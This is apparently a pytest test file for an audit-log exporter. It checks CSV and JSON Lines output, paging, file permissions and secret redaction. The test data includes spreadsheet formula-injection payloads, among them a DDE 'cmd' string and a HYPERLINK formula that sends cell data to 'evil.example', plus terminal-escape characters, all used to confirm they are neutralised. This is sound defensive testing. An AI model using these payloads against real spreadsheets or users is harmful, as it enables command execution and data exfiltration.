"""The log as JSON Lines and CSV: whole, page by page, private, and harmless where it is opened."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import tracemalloc
from contextlib import closing
from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest

from cognitui.audit import queries
from cognitui.audit.errors import AuditClosed, AuditError
from cognitui.audit.export import subject as subject_module
from cognitui.audit.export.export import export, export_file
from cognitui.audit.export.subject import FIELDS, ExportFormat, Subject
from cognitui.audit.records import Action
from cognitui.audit.wanted import Wanted
from cognitui.errors import UsageError

from .support import BOTH, FULL, START, record

if TYPE_CHECKING:
    from pathlib import Path

    from cognitui.audit.records import AuditRecord
    from cognitui.audit.store import AuditLog

SUBJECT = Subject(START)
FORMS = [str(form) for form in ExportFormat]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "  =1+1", "\t=1+1", "＝1+1",  # noqa: RUF001
    '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0",
]  # fmt: skip
HOSTILE = 'a "quoted", cell;\r\nwith lines\x1b[31m\x00\x9b \u202e\u2028 ü 😀'


async def exported(log: AuditLog, form: str, subject: Subject = SUBJECT) -> bytes:
    sink = io.BytesIO()
    made = await export(log, ExportFormat(form), subject, sink)
    assert made.size == len(sink.getvalue())
    return sink.getvalue()


def names(directory: Path) -> list[str]:
    return [each.name for each in directory.iterdir() if each.is_file()]


async def lines(log: AuditLog, subject: Subject = SUBJECT) -> list[Any]:
    return [json.loads(line) for line in (await exported(log, "jsonl", subject)).splitlines()]


async def rows(log: AuditLog) -> list[list[str]]:
    text = (await exported(log, "csv")).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@BOTH
async def test_json_lines_hold_every_field_of_every_record(log: AuditLog) -> None:
    kept = [await log.append(one) for one in (record(0), FULL, record(9, latency_ms=None))]
    *found, last = await lines(log)
    assert [one["id"] for one in found] == [3, 2, 1]
    for line, one in zip(found, reversed(kept), strict=True):
        assert list(line) == list(FIELDS)
        assert line["at"] == one.at.isoformat()
        assert line["before"] == one.before
        assert line["latency_ms"] == one.latency_ms
        assert [attempt["status"] for attempt in line["attempts"]] == [
            attempt.status for attempt in one.attempts
        ]
    assert last == {
        "export": {
            "version": 1,
            "records": 3,
            "made_at": START.isoformat(),
            "tenant": None,
            "since": None,
            "head": None,
        }
    }


@BOTH
async def test_an_export_carries_the_head(log: AuditLog) -> None:
    subject = Subject(START, head="v1:3:abcd")
    assert (await lines(log, subject))[-1]["export"]["head"] == "v1:3:abcd"
    assert b"v1:3:abcd" in await exported(log, "html", subject)


@BOTH
async def test_only_what_was_asked_for(log: AuditLog) -> None:
    for number in range(6):
        await log.append(record(number, tenant="beta" if number % 2 else "acme"))
    await log.append(record(0, tenant="acme"))  # the clock was set back
    await log.append(record(5, tenant="acme"))
    subject = Subject(START, tenant="acme", since=START + timedelta(seconds=4))
    *found, last = await lines(log, subject)
    assert [one["id"] for one in found] == [8, 5]
    assert (last["export"]["tenant"], last["export"]["records"]) == ("acme", 2)


@pytest.mark.parametrize("count", [1, 2, 3, 7, 8, 9])
@BOTH
async def test_pages_join_without_a_gap_or_a_double(
    log: AuditLog, count: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(subject_module, "PAGE", 4)
    for number in range(count):
        await log.append(record(number))
    *found, _ = await lines(log)
    assert [one["id"] for one in found] == list(range(count, 0, -1))


@BOTH
async def test_what_is_written_meanwhile_is_not_in_it(
    log: AuditLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(subject_module, "PAGE", 2)
    for number in range(5):
        await log.append(record(number))
    found: list[AuditRecord] = []
    async for page in subject_module.pages(log, SUBJECT):
        found += page
        await log.append(record(99))
    assert [one.id for one in found] == [5, 4, 3, 2, 1]


async def test_memory_does_not_grow_with_the_log(
    log: AuditLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Eight pages take no more room than two, whatever the form."""
    page, real = [record(n, id=n + 1, detail="d" * 500) for n in range(200)], log.scan
    left = 0

    async def next_page(*_: object) -> list[AuditRecord]:
        nonlocal left
        left -= 1
        # Each page is made of texts of its own, as one from the disk is.
        return [replace(one, detail=f"{left} {one.detail}") for one in page if left >= 0]

    class Nowhere(io.RawIOBase):
        def write(self, _data: object) -> int:
            return 0

    async def peak(form: str, pages: int) -> int:
        nonlocal left
        left = pages
        tracemalloc.start()
        try:
            await export(log, ExportFormat(form), SUBJECT, Nowhere())  # type: ignore[arg-type]
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    monkeypatch.setattr(log, "scan", next_page)
    for form in FORMS:
        await peak(form, 1)
        assert await peak(form, 8) < 2 * await peak(form, 2), form
    monkeypatch.setattr(log, "scan", real)


@pytest.mark.parametrize("number", range(len(FORMULAS)))
async def test_no_cell_is_a_formula(log: AuditLog, number: int) -> None:
    text = FORMULAS[number]
    await log.append(record(0, detail=text, skill_id=text, webhook_id=text, tenant=text))
    head, row = await rows(log)
    for name in ("detail", "skill_id", "webhook_id", "tenant"):
        cell = row[head.index(name)]
        assert cell == (text.replace("\t", "\\t") if text.startswith("\t") else f"'{text}")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
        ("a; @SUM(A1);+1", "a; '@SUM(A1);'+1"),
        ('a;"=1+1"', 'a;"\'=1+1"'),
        ("=1;-1", "'=1;'-1"),
        ("a;＝1", "a;'＝1"),  # noqa: RUF001
        ("a\t=1+1", "a\\t=1+1"),
        ("a;b=1; c-1 @ 2", "a;b=1; c-1 @ 2"),
    ],
    ids=["equals", "several", "quoted", "first", "wide", "tab", "none"],
)
async def test_no_part_of_a_cell_is_a_formula_where_semicolons_separate_cells(
    log: AuditLog, text: str, cell: str
) -> None:
    await log.append(record(0, detail=text, before={"a": text}))
    head, row = await rows(log)
    assert row[head.index("detail")] == cell
    held = row[head.index("before")]
    assert json.loads(held) == {"a": text}
    assert not re.search(r';[ "]*[=+@-]', held)


async def test_a_negative_number_stays_a_number(log: AuditLog) -> None:
    await log.append(record(0, monotonic=-3.5))
    head, row = await rows(log)
    assert row[head.index("monotonic")] == "-3.5"


@BOTH
async def test_csv_is_what_rfc_4180_says(log: AuditLog) -> None:
    await log.append(record(0, detail=HOSTILE))
    await log.append(FULL)
    raw = await exported(log, "csv")
    assert raw.count(b"\r\n") == raw.count(b"\n") == 3
    head, full, hostile = await rows(log)
    assert head == list(FIELDS)
    assert len(full) == len(hostile) == len(head)
    assert json.loads(full[head.index("before")]) == FULL.before
    assert hostile[head.index("detail")].startswith('a "quoted", cell;\\r\\nwith lines\\x1b[31m')
    assert hostile[head.index("detail")].endswith("ü 😀")


@pytest.mark.parametrize("form", FORMS)
async def test_nothing_in_it_can_steer_a_terminal(log: AuditLog, form: str) -> None:
    await log.append(record(0, detail=HOSTILE, webhook_id=HOSTILE, before={HOSTILE: HOSTILE}))
    text = (await exported(log, form)).decode("utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e\u2028]", text)


@pytest.mark.parametrize("form", FORMS)
@BOTH
async def test_half_a_surrogate_pair_is_no_reason_to_fail(log: AuditLog, form: str) -> None:
    await log.append(record(0, detail="\ud800", after={"a": "\ud800"}))
    assert await exported(log, form)


@pytest.mark.parametrize("form", FORMS)
@BOTH
async def test_an_empty_log_is_an_export_too(log: AuditLog, form: str) -> None:
    assert await exported(log, form)


async def test_the_file_is_its_owners_alone_and_replaces_another(
    log: AuditLog, tmp_path: Path
) -> None:
    path = tmp_path / "log.jsonl"
    path.write_text("before")
    path.chmod(0o644)
    await log.append(record())
    made = await export_file(log, ExportFormat.JSONL, SUBJECT, path)
    assert (made.records, made.size) == (1, path.stat().st_size)
    assert path.stat().st_mode & 0o777 == 0o600
    assert names(tmp_path) == ["log.jsonl"]


async def test_an_export_that_fails_leaves_what_was_there(
    log: AuditLog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "log.csv"
    path.write_text("before")
    await log.append(record())
    real, asked = log.scan, 0

    async def fails_at_the_second(*arguments: Any, **named: Any) -> list[AuditRecord]:
        nonlocal asked
        asked += 1
        if asked > 1:
            raise AuditClosed("The audit log is closed.")
        return await real(*arguments, **named)

    monkeypatch.setattr(log, "scan", fails_at_the_second)
    with pytest.raises(AuditClosed):
        await export_file(log, ExportFormat.CSV, SUBJECT, path)
    assert path.read_text() == "before"
    assert names(tmp_path) == ["log.csv"]


@pytest.mark.parametrize("where", ["missing/log.csv", ".", "/dev/null"])
async def test_where_no_file_can_be(log: AuditLog, tmp_path: Path, where: str) -> None:
    with pytest.raises(UsageError) as caught:
        await export_file(log, ExportFormat.CSV, SUBJECT, tmp_path / where)
    assert caught.value.field == "to"


async def test_the_secret_of_a_webhook_is_in_no_export(log: AuditLog) -> None:
    await log.append(
        record(0, action=Action.WEBHOOK_UPDATE, endpoint="https://h.example/in?token=t0ken-1234")
    )
    for form in FORMS:
        assert b"t0ken-1234" not in await exported(log, form)


@BOTH
async def test_nothing_after_the_head_is_in_an_export(log: AuditLog) -> None:
    for number in range(5):
        await log.append(record(number))
    sink = io.BytesIO()
    made = await export(log, ExportFormat.JSONL, Subject(START, last=3), sink)
    assert made.records == 3
    assert json.loads(sink.getvalue().splitlines()[0])["id"] == 3


async def test_an_export_looks_at_the_records_and_not_at_the_sums(
    log: AuditLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(queries, "WINDOW", 4)
    for number in range(30):
        await log.append(record(number, tenant="rare" if number in {2, 29} else "acme"))
    await log.count(Wanted(tenant="rare"))
    with closing(sqlite3.connect(log.path)) as other:
        other.executescript("DELETE FROM facts; DELETE FROM cells; UPDATE kinds SET total = 0")
    found = [
        one.id
        async for page in subject_module.pages(log, replace(SUBJECT, tenant="rare"))
        for one in page
    ]
    assert found == [30, 3]
    since = replace(SUBJECT, since=START + timedelta(seconds=27))
    assert [one.id async for page in subject_module.pages(log, since) for one in page] == [
        30, 29, 28,
    ]  # fmt: skip


async def test_an_export_from_which_records_were_archived_meanwhile_fails(
    log: AuditLog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(subject_module, "PAGE", 5)
    for number in range(20):
        await log.append(record(number))
    old = await log.older_than(START + timedelta(seconds=12))
    assert old is not None
    found: list[AuditRecord] = []

    async def read() -> None:
        async for page in subject_module.pages(log, SUBJECT):
            if not found:
                await log.archive(old, tmp_path / "old.db", lambda _: record(99))
            found.extend(page)

    with pytest.raises(AuditError, match="records up to 12 were archived"):
        await read()
    assert len(found) < 20
